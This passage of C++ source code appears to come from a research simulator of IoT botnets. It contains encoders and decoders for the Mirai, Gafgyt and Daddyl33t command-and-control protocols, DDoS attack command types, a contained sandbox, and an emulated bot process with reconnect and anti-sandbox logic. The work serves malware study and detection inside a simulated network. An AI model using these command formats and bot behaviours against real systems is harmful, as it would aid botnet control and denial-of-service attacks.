  return wire.size() == 2 && wire[0] == 0 && wire[1] == 0;
}

util::Bytes encode_attack(const AttackCommand& cmd) {
  const auto vec = mirai_vector_of(cmd.type);
  if (!vec) {
    throw std::invalid_argument("mirai: family does not implement " +
                                proto::to_string(cmd.type));
  }
  util::ByteWriter body;
  body.u32(cmd.duration_s);
  body.u8(*vec);
  body.u8(1);  // one target
  body.u32(cmd.target.ip.value);
  body.u8(32);  // /32 target
  if (cmd.target.port != 0) {
    body.u8(1);  // one option
    body.u8(kOptDport);
    body.u8(2);
    body.u16(cmd.target.port);
  } else {
    body.u8(0);
  }
  util::ByteWriter framed;
  framed.lp16(body.bytes());
  return framed.take();
}

std::optional<AttackCommand> decode_attack(util::BytesView wire) {
  try {
    util::ByteReader r(wire);
    const util::Bytes body = r.lp16();
    if (body.empty() || !r.done()) return std::nullopt;
    util::ByteReader b(body);
    AttackCommand cmd;
    cmd.family = Family::kMirai;
    cmd.duration_s = b.u32();
    const auto type = mirai_vector_to_type(b.u8());
    if (!type) return std::nullopt;
    cmd.type = *type;
    const std::uint8_t n_targets = b.u8();
    if (n_targets == 0) return std::nullopt;
    cmd.target.ip = net::Ipv4{b.u32()};
    b.skip(1);  // prefix
    for (std::uint8_t i = 1; i < n_targets; ++i) b.skip(5);  // extra targets
    const std::uint8_t n_opts = b.u8();
    for (std::uint8_t i = 0; i < n_opts; ++i) {
      const std::uint8_t key = b.u8();
      const std::uint8_t len = b.u8();
      const util::Bytes val = b.raw(len);
      if (key == kOptDport && len == 2) {
        cmd.target.port = static_cast<net::Port>((val[0] << 8) | val[1]);
      }
    }
    if (!b.done()) return std::nullopt;
    cmd.raw.assign(wire.begin(), wire.end());
    return cmd;
  } catch (const util::TruncatedInput&) {
    return std::nullopt;
  }
}

}  // namespace malnet::proto::mirai
