// The Daddyl33t C2 protocol: text-based, reverse engineered in the study
// (§2.5a: "For Daddyl33t, we reverse engineer the communicated traffic and
// create the profile"). QBot lineage with IoT-specific attack verbs.
//
//   Bot -> C2 on connect:  "l33t LOGIN <botid>\n"
//   C2 keepalive:          ".ping\n" -> bot answers ".pong\n"
//   C2 attack:             "<KEYWORD> <ip> <port> <secs>\n"
//                          KEYWORD in {UDPRAW, HYDRASYN, TLS, NURSE, NFOV6};
//                          NURSE targets ICMP, so its port field is 0.
#pragma once

#include <optional>
#include <string>

#include "proto/attack.hpp"

namespace malnet::proto::daddyl33t {

[[nodiscard]] std::string encode_login(const std::string& bot_id);
[[nodiscard]] std::optional<std::string> decode_login(std::string_view line);

[[nodiscard]] inline std::string encode_ping() { return ".ping\n"; }
[[nodiscard]] inline std::string encode_pong() { return ".pong\n"; }
[[nodiscard]] bool is_ping(std::string_view line);
[[nodiscard]] bool is_pong(std::string_view line);

[[nodiscard]] std::string encode_attack(const AttackCommand& cmd);
[[nodiscard]] std::optional<AttackCommand> decode_attack(std::string_view line);

}  // namespace malnet::proto::daddyl33t
