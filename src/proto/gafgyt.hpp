// The Gafgyt C2 protocol: newline-terminated text, IRC-flavoured but not
// IRC (§5.1: "Gafgyt ... use a text based protocol").
//
//   Bot -> C2 on connect:  "BUILD <arch>\n"
//   C2 keepalive:          "PING\n"  -> bot answers "PONG\n"
//   C2 attack:             "!* <KEYWORD> <ip> <port> <secs>\n"
//   C2 stop:               "!* STOP\n"
#pragma once

#include <optional>
#include <string>

#include "proto/attack.hpp"

namespace malnet::proto::gafgyt {

[[nodiscard]] std::string encode_hello(const std::string& arch);
[[nodiscard]] std::optional<std::string> decode_hello(std::string_view line);

[[nodiscard]] inline std::string encode_ping() { return "PING\n"; }
[[nodiscard]] inline std::string encode_pong() { return "PONG\n"; }
[[nodiscard]] bool is_ping(std::string_view line);
[[nodiscard]] bool is_pong(std::string_view line);

/// Attack types without a Gafgyt keyword throw std::invalid_argument.
[[nodiscard]] std::string encode_attack(const AttackCommand& cmd);
[[nodiscard]] std::optional<AttackCommand> decode_attack(std::string_view line);

[[nodiscard]] inline std::string encode_stop() { return "!* STOP\n"; }

}  // namespace malnet::proto::gafgyt
