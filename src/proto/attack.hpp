// The unified DDoS attack command model: the 8 attack types observed in the
// study (§5.1), the protocol each one rides on (Figure 10), and which
// families launch which types (Figure 11).
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "net/ipv4.hpp"
#include "net/packet.hpp"
#include "proto/family.hpp"
#include "util/bytes.hpp"

namespace malnet::proto {

enum class AttackType {
  kUdpFlood,    // Mirai vector 0 / Gafgyt "UDP" / daddyl33t "UDPRAW"
  kSynFlood,    // Mirai SYN / daddyl33t "HYDRASYN"
  kTls,         // Mirai chunked-TLS / daddyl33t DTLS-ish
  kStomp,       // Mirai vector 5: STOMP application flood
  kVse,         // Valve Source Engine query flood (gaming)
  kStd,         // Gafgyt STD random-string flood
  kBlacknurse,  // daddyl33t: ICMP type 3 code 3 flood
  kNfo,         // daddyl33t: custom UDP/238 payload against NFOservers
};

inline constexpr int kAttackTypeCount = 8;

[[nodiscard]] std::string to_string(AttackType t);

/// The transport the attack traffic itself uses (Figure 10 buckets; DNS
/// floods would be kUdp against port 53 — we bucket by this rule too).
enum class AttackProtocol { kUdp, kTcp, kIcmp, kDns };

[[nodiscard]] std::string to_string(AttackProtocol p);
[[nodiscard]] AttackProtocol attack_protocol(AttackType t, net::Port target_port);

/// True for attack types aimed at gaming infrastructure (§5: "two types of
/// attacks targeting gaming servers" — VSE and NFO).
[[nodiscard]] bool is_gaming_attack(AttackType t);

/// A decoded C2 attack command.
struct AttackCommand {
  AttackType type = AttackType::kUdpFlood;
  Family family = Family::kMirai;
  net::Endpoint target;            // port 0 for ICMP-borne attacks
  std::uint32_t duration_s = 30;   // commanded duration
  util::Bytes raw;                 // exact command bytes as seen on the wire

  [[nodiscard]] std::string summary() const;
};

/// Which attack types a family implements (Figure 11 distribution support).
[[nodiscard]] const std::vector<AttackType>& attacks_of(Family f);

/// The per-family command keyword for text protocols ("UDP", "UDPRAW", …)
/// or the Mirai binary vector id. Used by encoders and by the DDoS command
/// profiler in core/.
[[nodiscard]] std::optional<std::uint8_t> mirai_vector_of(AttackType t);
[[nodiscard]] std::optional<AttackType> mirai_vector_to_type(std::uint8_t vec);
[[nodiscard]] std::optional<std::string> gafgyt_keyword_of(AttackType t);
[[nodiscard]] std::optional<AttackType> gafgyt_keyword_to_type(std::string_view kw);
[[nodiscard]] std::optional<std::string> daddyl33t_keyword_of(AttackType t);
[[nodiscard]] std::optional<AttackType> daddyl33t_keyword_to_type(std::string_view kw);

}  // namespace malnet::proto
