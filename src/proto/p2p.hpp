// Minimal DHT-style peer-to-peer messages for Mozi and Hajime (Table 6).
// Modelled after the bencoded KRPC pings Mozi inherits from BitTorrent DHT.
// These families have no central C2, so the D-C2s pipeline filters them
// out (§2.3a) — but they must still *emit* recognisable P2P traffic for
// that filter to have something to recognise.
#pragma once

#include <optional>
#include <string>

#include <vector>

#include "net/ipv4.hpp"
#include "util/bytes.hpp"

namespace malnet::proto::p2p {

struct DhtPing {
  std::string node_id;  // 20 bytes
  std::string txn;      // 2 bytes
};

/// "d1:ad2:id20:<id>e1:q4:ping1:t2:<txn>1:y1:qe"
[[nodiscard]] util::Bytes encode_ping(const DhtPing& ping);
[[nodiscard]] std::optional<DhtPing> decode_ping(util::BytesView wire);

/// "d1:rd2:id20:<id>e1:t2:<txn>1:y1:re"
[[nodiscard]] util::Bytes encode_pong(const DhtPing& pong);

/// Cheap classifier: does this datagram look like DHT/KRPC traffic?
[[nodiscard]] bool looks_like_dht(util::BytesView wire);

// --- peer exchange (get_peers / nodes reply) ---------------------------------
// Enough DHT surface for overlay crawling — the natural next step after the
// paper's P2P filter-out (§2.3a): instead of discarding Mozi/Hajime
// samples, walk their overlay (see core/p2p_crawl.hpp).

struct GetPeers {
  std::string node_id;  // 20 bytes
  std::string txn;      // 2 bytes
};

/// "d1:ad2:id20:<id>e1:q9:get_peers1:t2:<txn>1:y1:qe"
[[nodiscard]] util::Bytes encode_get_peers(const GetPeers& msg);
[[nodiscard]] std::optional<GetPeers> decode_get_peers(util::BytesView wire);

struct PeersReply {
  std::string node_id;
  std::string txn;
  std::vector<net::Endpoint> peers;  // compact 6-byte entries on the wire
};

[[nodiscard]] util::Bytes encode_peers_reply(const PeersReply& msg);
[[nodiscard]] std::optional<PeersReply> decode_peers_reply(util::BytesView wire);

}  // namespace malnet::proto::p2p
