// Malware family taxonomy (paper Table 6).
#pragma once

#include <optional>
#include <string>

namespace malnet::proto {

enum class Family {
  kMirai,      // binary C2 protocol
  kGafgyt,     // text C2 protocol
  kTsunami,    // IRC C2 protocol
  kDaddyl33t,  // text C2 protocol (QBot lineage, IoT-targeting)
  kMozi,       // P2P (DHT) — no central C2
  kHajime,     // P2P — no central C2
  kVpnFilter,  // APT; modelled with a TLS-ish C2 beacon
};

inline constexpr int kFamilyCount = 7;

[[nodiscard]] std::string to_string(Family f);
[[nodiscard]] std::optional<Family> family_from_string(std::string_view name);

/// True for families whose C2 rendezvous is peer-to-peer (filtered out of
/// the D-C2s dataset per §2.3a).
[[nodiscard]] bool is_p2p(Family f);

}  // namespace malnet::proto
