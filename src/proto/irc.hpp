// Minimal IRC (RFC 2812 subset) for the Tsunami family, whose "main
// distinction is its communication over the IRC protocol" (Table 6).
#pragma once

#include <optional>
#include <string>
#include <vector>

namespace malnet::proto::irc {

/// One IRC line: [":" prefix SP] command [params] [" :" trailing].
struct IrcMessage {
  std::string prefix;   // without the leading ':'
  std::string command;  // "NICK", "PRIVMSG", "001", ...
  std::vector<std::string> params;
  std::string trailing;
  bool has_trailing = false;

  [[nodiscard]] std::string serialize() const;  // includes "\r\n"
};

[[nodiscard]] std::optional<IrcMessage> parse(std::string_view line);

/// Convenience builders for the Tsunami session flow.
[[nodiscard]] IrcMessage nick(const std::string& n);
[[nodiscard]] IrcMessage user(const std::string& u);
[[nodiscard]] IrcMessage join(const std::string& channel);
[[nodiscard]] IrcMessage privmsg(const std::string& target, const std::string& text);
[[nodiscard]] IrcMessage ping(const std::string& token);
[[nodiscard]] IrcMessage pong(const std::string& token);
/// Numeric welcome (001) a server sends after registration.
[[nodiscard]] IrcMessage welcome(const std::string& nick);

}  // namespace malnet::proto::irc
