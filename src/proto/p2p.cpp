#include "proto/p2p.hpp"

#include <stdexcept>

namespace malnet::proto::p2p {

namespace {
constexpr std::string_view kPingPrefix = "d1:ad2:id20:";
}

util::Bytes encode_ping(const DhtPing& ping) {
  if (ping.node_id.size() != 20) throw std::invalid_argument("p2p: node id != 20 bytes");
  if (ping.txn.size() != 2) throw std::invalid_argument("p2p: txn != 2 bytes");
  std::string s;
  s += kPingPrefix;
  s += ping.node_id;
  s += "e1:q4:ping1:t2:";
  s += ping.txn;
  s += "1:y1:qe";
  return util::to_bytes(s);
}

std::optional<DhtPing> decode_ping(util::BytesView wire) {
  const std::string s = util::to_string(wire);
  if (s.rfind(kPingPrefix, 0) != 0) return std::nullopt;
  if (s.find("1:q4:ping") == std::string::npos) return std::nullopt;
  if (s.size() < kPingPrefix.size() + 20) return std::nullopt;
  DhtPing ping;
  ping.node_id = s.substr(kPingPrefix.size(), 20);
  const auto t = s.find("1:t2:");
  if (t == std::string::npos || t + 7 > s.size()) return std::nullopt;
  ping.txn = s.substr(t + 5, 2);
  return ping;
}

util::Bytes encode_pong(const DhtPing& pong) {
  if (pong.node_id.size() != 20) throw std::invalid_argument("p2p: node id != 20 bytes");
  if (pong.txn.size() != 2) throw std::invalid_argument("p2p: txn != 2 bytes");
  std::string s;
  s += "d1:rd2:id20:";
  s += pong.node_id;
  s += "e1:t2:";
  s += pong.txn;
  s += "1:y1:re";
  return util::to_bytes(s);
}

bool looks_like_dht(util::BytesView wire) {
  const std::string s = util::to_string(wire.subspan(0, std::min<std::size_t>(16, wire.size())));
  return s.rfind("d1:ad2:id20:", 0) == 0 || s.rfind("d1:rd2:id20:", 0) == 0;
}

util::Bytes encode_get_peers(const GetPeers& msg) {
  if (msg.node_id.size() != 20) throw std::invalid_argument("p2p: node id != 20 bytes");
  if (msg.txn.size() != 2) throw std::invalid_argument("p2p: txn != 2 bytes");
  std::string s;
  s += "d1:ad2:id20:";
  s += msg.node_id;
  s += "e1:q9:get_peers1:t2:";
  s += msg.txn;
  s += "1:y1:qe";
  return util::to_bytes(s);
}

std::optional<GetPeers> decode_get_peers(util::BytesView wire) {
  const std::string s = util::to_string(wire);
  if (s.rfind(kPingPrefix, 0) != 0) return std::nullopt;
  if (s.find("1:q9:get_peers") == std::string::npos) return std::nullopt;
  if (s.size() < kPingPrefix.size() + 20) return std::nullopt;
  GetPeers msg;
  msg.node_id = s.substr(kPingPrefix.size(), 20);
  const auto t = s.find("1:t2:");
  if (t == std::string::npos || t + 7 > s.size()) return std::nullopt;
  msg.txn = s.substr(t + 5, 2);
  return msg;
}

util::Bytes encode_peers_reply(const PeersReply& msg) {
  if (msg.node_id.size() != 20) throw std::invalid_argument("p2p: node id != 20 bytes");
  if (msg.txn.size() != 2) throw std::invalid_argument("p2p: txn != 2 bytes");
  if (msg.peers.size() > 64) throw std::invalid_argument("p2p: too many peers");
  std::string s;
  s += "d1:rd2:id20:";
  s += msg.node_id;
  s += "6:valuesl";
  for (const auto& p : msg.peers) {
    s += std::to_string(6) + ":";
    for (int i = 0; i < 4; ++i) s += static_cast<char>(p.ip.octet(i));
    s += static_cast<char>(p.port >> 8);
    s += static_cast<char>(p.port & 0xFF);
  }
  s += "ee1:t2:";
  s += msg.txn;
  s += "1:y1:re";
  return util::to_bytes(s);
}

std::optional<PeersReply> decode_peers_reply(util::BytesView wire) {
  const std::string s = util::to_string(wire);
  static constexpr std::string_view kPrefix = "d1:rd2:id20:";
  if (s.rfind(kPrefix, 0) != 0) return std::nullopt;
  if (s.size() < kPrefix.size() + 20) return std::nullopt;
  PeersReply msg;
  msg.node_id = s.substr(kPrefix.size(), 20);
  const auto values = s.find("6:valuesl");
  if (values == std::string::npos) return std::nullopt;
  std::size_t pos = values + 9;
  while (pos + 2 <= s.size() && s.compare(pos, 2, "6:") == 0) {
    if (pos + 8 > s.size()) return std::nullopt;
    const auto* b = reinterpret_cast<const unsigned char*>(s.data() + pos + 2);
    net::Endpoint ep;
    ep.ip = net::Ipv4{b[0], b[1], b[2], b[3]};
    ep.port = static_cast<net::Port>((b[4] << 8) | b[5]);
    msg.peers.push_back(ep);
    pos += 8;
  }
  if (pos >= s.size() || s[pos] != 'e') return std::nullopt;  // list terminator
  const auto t = s.find("1:t2:", pos);
  if (t == std::string::npos || t + 7 > s.size()) return std::nullopt;
  msg.txn = s.substr(t + 5, 2);
  return msg;
}

}  // namespace malnet::proto::p2p
