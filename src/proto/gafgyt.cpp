#include "proto/gafgyt.hpp"

#include <stdexcept>

#include "util/str.hpp"

namespace malnet::proto::gafgyt {

std::string encode_hello(const std::string& arch) { return "BUILD " + arch + "\n"; }

std::optional<std::string> decode_hello(std::string_view line) {
  const auto trimmed = util::trim(line);
  if (trimmed.rfind("BUILD ", 0) != 0) return std::nullopt;
  return std::string(util::trim(trimmed.substr(6)));
}

bool is_ping(std::string_view line) { return util::trim(line) == "PING"; }
bool is_pong(std::string_view line) { return util::trim(line) == "PONG"; }

std::string encode_attack(const AttackCommand& cmd) {
  const auto kw = gafgyt_keyword_of(cmd.type);
  if (!kw) {
    throw std::invalid_argument("gafgyt: family does not implement " +
                                proto::to_string(cmd.type));
  }
  return "!* " + *kw + " " + net::to_string(cmd.target.ip) + " " +
         std::to_string(cmd.target.port) + " " + std::to_string(cmd.duration_s) + "\n";
}

std::optional<AttackCommand> decode_attack(std::string_view line) {
  const auto parts = util::split_ws(util::trim(line));
  if (parts.size() != 5 || parts[0] != "!*") return std::nullopt;
  const auto type = gafgyt_keyword_to_type(parts[1]);
  const auto ip = net::parse_ipv4(parts[2]);
  const auto port = util::parse_u64(parts[3]);
  const auto secs = util::parse_u64(parts[4]);
  if (!type || !ip || !port || *port > 0xFFFF || !secs) return std::nullopt;
  AttackCommand cmd;
  cmd.family = Family::kGafgyt;
  cmd.type = *type;
  cmd.target = {*ip, static_cast<net::Port>(*port)};
  cmd.duration_s = static_cast<std::uint32_t>(*secs);
  cmd.raw = util::to_bytes(line);
  return cmd;
}

}  // namespace malnet::proto::gafgyt
