// DDoS attack traffic generation — what a bot does after receiving a C2
// command. Each generator reproduces the wire behaviour the paper describes
// in §5.1 (payloads, port selection, handshake patterns). Rates and
// durations are capped so the simulation stays tractable; the cap is far
// above the 100 pps detection heuristic of §2.5b.
#pragma once

#include <cstdint>
#include <functional>

#include "proto/attack.hpp"
#include "sim/network.hpp"
#include "util/rng.hpp"

namespace malnet::emu {

struct AttackGenOptions {
  double pps = 200.0;                    // generated packet rate
  sim::Duration max_duration = sim::Duration::seconds(15);  // simulation cap
  /// Mirai UDP variant behaviour (§5.1): some variants keep one source
  /// port, others rotate. Chosen per-sample.
  bool rotate_source_ports = true;
};

/// Emits the attack traffic for `cmd` from `bot`, in 100 ms bursts.
/// Traffic leaves through the host's normal outbound path, so the sandbox
/// tap records it and the containment filter drops it at the perimeter —
/// exactly the §2.6c arrangement. Calls `done` when the (capped) command
/// duration elapses.
void launch_attack(sim::Host& bot, const proto::AttackCommand& cmd,
                   const AttackGenOptions& opts, util::Rng& rng,
                   std::function<void()> done = nullptr);

/// The Valve Source Engine query payload ("TSource Engine Query") — the
/// VSE amplification probe of §5.1.
[[nodiscard]] util::Bytes vse_payload();

/// The NFO attack's custom payload marker (UDP/238, §5.1).
[[nodiscard]] util::Bytes nfo_payload();

}  // namespace malnet::emu
