// The sandbox: our CnCHunter stand-in (§2.1).
//
// A sandbox run boots a guest host, loads an MBF binary into a
// MalwareProcess, and interposes on the guest's traffic with a NAT filter
// whose policy depends on the mode:
//
//  * kObserve — "fake internet": DNS is answered by a wildcard fake
//    resolver; HTTP connectivity checks land on a fake web server (the
//    InetSim deployment of §2.6a); scan ports that cross the handshaker
//    threshold (>= 20 distinct destinations, §2.4) are redirected to a
//    catch-all fake victim that completes the handshake and records the
//    exploit payload; everything else goes dark. No packet reaches the
//    real network.
//
//  * kLive — restricted real connectivity for the 2-hour DDoS watch
//    (§2.5): only the designated C2 endpoint and DNS pass the perimeter;
//    all other traffic (including launched attack floods) is captured and
//    dropped, per the §2.6 containment policy.
//
//  * kWeaponized — CnCHunter's MITM probing (§2.1 mode 2): the guest's
//    C2-bound flow is NAT-rewritten to an arbitrary probe target; the
//    report says whether the target engaged with the malware's protocol.
#pragma once

#include <cstdint>
#include <functional>
#include <map>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "emu/malproc.hpp"
#include "inetsim/services.hpp"
#include "mal/binary.hpp"
#include "net/pcap.hpp"
#include "obs/obs.hpp"
#include "sim/network.hpp"
#include "util/rng.hpp"

namespace malnet::emu {

enum class SandboxMode { kObserve, kLive, kWeaponized };

[[nodiscard]] std::string to_string(SandboxMode m);

struct SandboxOptions {
  SandboxMode mode = SandboxMode::kObserve;
  sim::Duration duration = sim::Duration::minutes(10);
  /// kLive: the C2 endpoint allowed through the perimeter.
  std::optional<net::Endpoint> allowed_c2;
  /// kWeaponized: the C2 flow to hijack (from a prior observe run) and the
  /// probe target it is redirected to.
  std::optional<net::Endpoint> c2_hint;
  std::optional<net::Endpoint> mitm_target;
  /// Handshaker port threshold (§2.4 uses 20; swept by the ablation bench).
  int handshaker_threshold = 20;
  /// Attack generation caps forwarded to the malware process.
  double attack_pps = 200.0;
  sim::Duration attack_cap = sim::Duration::seconds(15);
  /// C2 reconnect policy forwarded to the malware process. Long live runs
  /// use a persistent retry loop (real bots retry indefinitely), which is
  /// what lets the 2 h watch outlast a server's post-probe dormancy.
  int c2_retry_limit = 2;
  sim::Duration c2_retry_delay = sim::Duration::seconds(20);
};

struct ExploitCapture {
  net::Port port = 0;          // service port the victim impersonated
  net::Ipv4 original_dst;      // the address the malware believed it attacked
  util::Bytes payload;         // first data the malware sent post-handshake
};

struct SandboxReport {
  bool parsed = false;          // binary container parsed
  bool unsupported_arch = false;  // parsed, but not an emulatable CPU (§6d)
  bool activated = false;       // emitted at least one packet
  bool evasion_abort = false;   // sample detected the sandbox and bailed
  std::vector<net::Packet> capture;      // guest-side, both directions
  std::vector<std::string> dns_queries;  // names the guest resolved
  std::vector<ExploitCapture> exploits;  // handshaker harvest (kObserve)
  bool mitm_engaged = false;             // kWeaponized: target spoke back
  util::Bytes mitm_first_data;           // first inbound bytes on that flow
  std::uint64_t packets_out = 0;
  std::uint64_t packets_dropped = 0;
  /// Commands the bot decoded (ground-truth aid for tests; the pipeline
  /// re-derives commands from `capture` via core::ddos).
  std::vector<proto::AttackCommand> commands;

  /// Writes `capture` as a standard pcap file.
  void save_pcap(const std::string& path) const;
};

using RunCallback = std::function<void(const SandboxReport&)>;

struct SandboxConfig {
  std::uint64_t seed = 7;
  /// Guest/victim addresses are carved from here (two per run).
  net::Subnet guest_pool{net::Ipv4{10, 77, 0, 0}, 16};
  /// CPU architectures this sandbox can emulate. The study's sandbox is
  /// MIPS-32-only (§2.1); §6d names broader support as the scaling path.
  std::vector<mal::Arch> supported_archs{mal::Arch::kMips32};
  /// Observability sink (owned by the enclosing pipeline; may be null).
  /// Runs and reports are counted in its registry; completed runs emit
  /// trace spans when its tracer is enabled.
  obs::Observer* obs = nullptr;
  /// Profile registry forwarded to every malware process (null = builtin).
  /// Not owned; must outlive the sandbox.
  const profile::Registry* profiles = nullptr;
};

/// Factory driving concurrent sandbox runs on one simulated network.
class Sandbox {
 public:
  Sandbox(sim::Network& net, SandboxConfig cfg = {});
  ~Sandbox();
  Sandbox(const Sandbox&) = delete;
  Sandbox& operator=(const Sandbox&) = delete;

  /// Starts a run; `done` fires once, after `opts.duration` of simulated
  /// time (immediately for unparseable binaries). The scheduler must be
  /// pumped (run/run_until) for the run to make progress.
  void start(util::BytesView binary, SandboxOptions opts, RunCallback done);

  [[nodiscard]] std::size_t active_runs() const { return runs_.size(); }
  [[nodiscard]] std::uint64_t total_runs() const { return total_runs_; }

  /// The wildcard address fake DNS hands out in observe/weaponized modes.
  [[nodiscard]] net::Ipv4 martian() const;

  /// The simulated network the sandbox runs on (fault hook-up point).
  [[nodiscard]] sim::Network& network() { return net_; }

 private:
  class Run;

  void release(std::uint64_t id);  // called by a finishing Run
  /// Observability hook, called by a finishing Run just before its callback:
  /// counts report outcomes and emits the run's trace span.
  void note_report(const SandboxOptions& opts, const SandboxReport& report,
                   std::int64_t started_sim_us);

  sim::Network& net_;
  SandboxConfig cfg_;
  util::Rng rng_;
  std::unique_ptr<inetsim::FakeDns> fake_dns_;
  std::unique_ptr<inetsim::FakeHttp> fake_http_;
  std::uint32_t next_offset_ = 16;  // low addresses reserved for infra
  std::uint64_t total_runs_ = 0;
  // Cached registry instruments (null when cfg_.obs is null); lookups are
  // mutex-guarded, increments are not — see obs/metrics.hpp.
  obs::Counter* m_runs_ = nullptr;
  obs::Counter* m_runs_by_mode_[3] = {nullptr, nullptr, nullptr};
  obs::Counter* m_unparseable_ = nullptr;
  obs::Counter* m_unsupported_arch_ = nullptr;
  obs::Counter* m_activated_ = nullptr;
  obs::Counter* m_evasion_aborts_ = nullptr;
  obs::Counter* m_exploits_captured_ = nullptr;
  obs::Histogram* m_packets_out_ = nullptr;
  std::map<std::uint64_t, std::unique_ptr<Run>> runs_;
  std::uint64_t next_run_id_ = 1;
};

}  // namespace malnet::emu
