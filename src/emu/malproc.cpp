#include "emu/malproc.hpp"

#include "dns/resolver.hpp"
#include "emu/attackgen.hpp"
#include "profile/wire.hpp"
#include "proto/irc.hpp"
#include "proto/p2p.hpp"
#include "util/log.hpp"
#include "util/str.hpp"
#include "vulndb/vulndb.hpp"

namespace malnet::emu {

namespace {
/// A random routable-looking address for scan sweeps (avoids loopback and
/// RFC1918 10/8, where the sandbox guests live).
net::Ipv4 random_scan_target(util::Rng& rng) {
  while (true) {
    const auto v = static_cast<std::uint32_t>(rng.uniform(0x01000000u, 0xDFFFFFFFu));
    const auto first = v >> 24;
    if (first == 10 || first == 127) continue;
    return net::Ipv4{v};
  }
}
}  // namespace

net::Port MalwareProcess::fallback_port() const {
  return spec_.c2_fallback_port != 0 ? spec_.c2_fallback_port : spec_.c2_port;
}

MalwareProcess::MalwareProcess(sim::Host& guest, mal::BehaviorSpec spec, util::Rng rng,
                               MalProcOptions opts)
    : guest_(guest), spec_(std::move(spec)), rng_(std::move(rng)), opts_(opts) {
  rotate_attack_ports_ = rng_.chance(0.5);  // Mirai UDP variant trait (§5.1)

  // Resolve the C2 dialect: the spec's named profile if the binary carries
  // one (and it exists for this family), else the family's active profile.
  const profile::Registry& reg =
      opts_.profiles != nullptr ? *opts_.profiles : profile::Registry::builtin();
  if (!spec_.profile_name.empty()) {
    const auto* named = reg.by_name(spec_.profile_name);
    if (named != nullptr && named->id == spec_.family) profile_ = named;
  }
  if (profile_ == nullptr) profile_ = reg.active(spec_.family);

  // The failover list the bot cycles through when the primary is down.
  if (!spec_.is_p2p()) {
    if (spec_.c2_fallback_ip) {
      fallbacks_.push_back({*spec_.c2_fallback_ip, fallback_port()});
    }
    for (const auto& e : spec_.extra_c2) fallbacks_.push_back(e);
  }
}

void MalwareProcess::start() {
  if (started_) return;
  started_ = true;
  if (spec_.check_internet) {
    check_internet_then_run();
  } else {
    run_main();
  }
}

void MalwareProcess::check_internet_then_run() {
  // Connectivity probe: resolve a benign-looking name, then open TCP/80 to
  // the answer. InetSim satisfies both inside the sandbox (§2.6a).
  dns::resolve(guest_, opts_.resolver, "update.busybox-cdn.com",
               [this](std::optional<net::Ipv4> ip) {
                 if (!ip) {
                   if (spec_.anti_sandbox) {
                     aborted_ = true;
                     return;
                   }
                   run_main();
                   return;
                 }
                 guest_.tcp_connect(
                     {*ip, 80},
                     [this](sim::ConnectOutcome outcome, sim::TcpConn* conn) {
                       if (outcome != sim::ConnectOutcome::kConnected) {
                         if (spec_.anti_sandbox) {
                           aborted_ = true;
                           return;
                         }
                       } else if (conn != nullptr) {
                         conn->close();
                       }
                       run_main();
                     },
                     opts_.connect_timeout);
               });
}

void MalwareProcess::run_main() {
  if (spec_.telemetry_domain) start_telemetry();
  if (spec_.is_p2p()) {
    start_p2p();
    start_scans();
    return;
  }
  start_scans();
  if (spec_.c2_domain) {
    dns::resolve(guest_, opts_.resolver, *spec_.c2_domain,
                 [this](std::optional<net::Ipv4> ip) {
                   if (ip) {
                     contact_c2({*ip, spec_.c2_port}, opts_.c2_retry_limit,
                                /*next_fallback=*/0);
                   } else if (!fallbacks_.empty()) {
                     contact_c2(fallbacks_.front(), opts_.c2_retry_limit,
                                /*next_fallback=*/1);
                   }
                 });
  } else if (spec_.c2_ip) {
    contact_c2({*spec_.c2_ip, spec_.c2_port}, opts_.c2_retry_limit,
               /*next_fallback=*/0);
  }
}

void MalwareProcess::contact_c2(net::Endpoint ep, int attempts_left,
                                std::size_t next_fallback) {
  ++c2_attempts_;
  contacted_ = ep;
  guest_.tcp_connect(
      ep,
      [this, ep, attempts_left, next_fallback](sim::ConnectOutcome outcome,
                                               sim::TcpConn* conn) {
        if (outcome == sim::ConnectOutcome::kConnected && conn != nullptr) {
          on_c2_connected(*conn);
          return;
        }
        if (attempts_left > 0) {
          guest_.schedule_safe(opts_.c2_retry_delay,
                               [this, ep, attempts_left, next_fallback]() {
                                 contact_c2(ep, attempts_left - 1, next_fallback);
                               });
        } else if (next_fallback < fallbacks_.size()) {
          contact_c2(fallbacks_[next_fallback], opts_.c2_retry_limit,
                     next_fallback + 1);
        } else {
          // Address list exhausted: real bots cycle back to the start and
          // keep trying for as long as they run. Bounded only by the
          // sandbox run duration (events die with the guest host).
          const net::Endpoint primary =
              spec_.c2_ip ? net::Endpoint{*spec_.c2_ip, spec_.c2_port} : ep;
          guest_.schedule_safe(opts_.c2_retry_delay, [this, primary]() {
            contact_c2(primary, opts_.c2_retry_limit, /*next_fallback=*/0);
          });
        }
      },
      opts_.connect_timeout);
}

void MalwareProcess::on_c2_connected(sim::TcpConn& conn) {
  c2_conn_ = &conn;
  conn.on_data([this](sim::TcpConn&, util::BytesView data) { on_c2_data(data); });
  conn.on_close([this](sim::TcpConn& c) {
    if (c2_conn_ != &c) return;
    c2_conn_ = nullptr;
    c2_text_buffer_.clear();
    c2_bin_buffer_.clear();
    // Bots reconnect when the C2 drops them (Mirai's resolve/connect loop).
    const net::Endpoint primary =
        spec_.c2_ip ? net::Endpoint{*spec_.c2_ip, spec_.c2_port} : c.remote();
    guest_.schedule_safe(opts_.c2_retry_delay, [this, primary]() {
      if (c2_conn_ == nullptr) {
        contact_c2(primary, opts_.c2_retry_limit, /*next_fallback=*/0);
      }
    });
  });

  switch (profile_->framing) {
    case profile::Framing::kBinary:
      conn.send(util::BytesView{
          profile::wire::encode_handshake(*profile_, spec_.bot_id)});
      break;
    case profile::Framing::kText:
      // The hello argument is the bot's identity or its CPU architecture
      // (all sandbox guests emulate MIPS), per the profile's grammar.
      conn.send(profile::wire::encode_hello(
          *profile_, profile_->hello_sends_bot_id ? spec_.bot_id : "MIPS"));
      break;
    case profile::Framing::kIrc:
      conn.send(proto::irc::nick(spec_.bot_id).serialize());
      conn.send(proto::irc::user(spec_.bot_id).serialize());
      break;
    case profile::Framing::kTlsBeacon:
      conn.send(util::BytesView{profile_->tls_client_hello});
      break;
    case profile::Framing::kP2p:
      break;
  }
  send_keepalive();
}

void MalwareProcess::send_keepalive() {
  guest_.schedule_safe(sim::Duration::seconds(spec_.keepalive_s), [this]() {
    if (c2_conn_ == nullptr || !c2_conn_->established()) return;
    switch (profile_->framing) {
      case profile::Framing::kBinary:
        c2_conn_->send(util::BytesView{profile::wire::encode_keepalive()});
        break;
      case profile::Framing::kText:
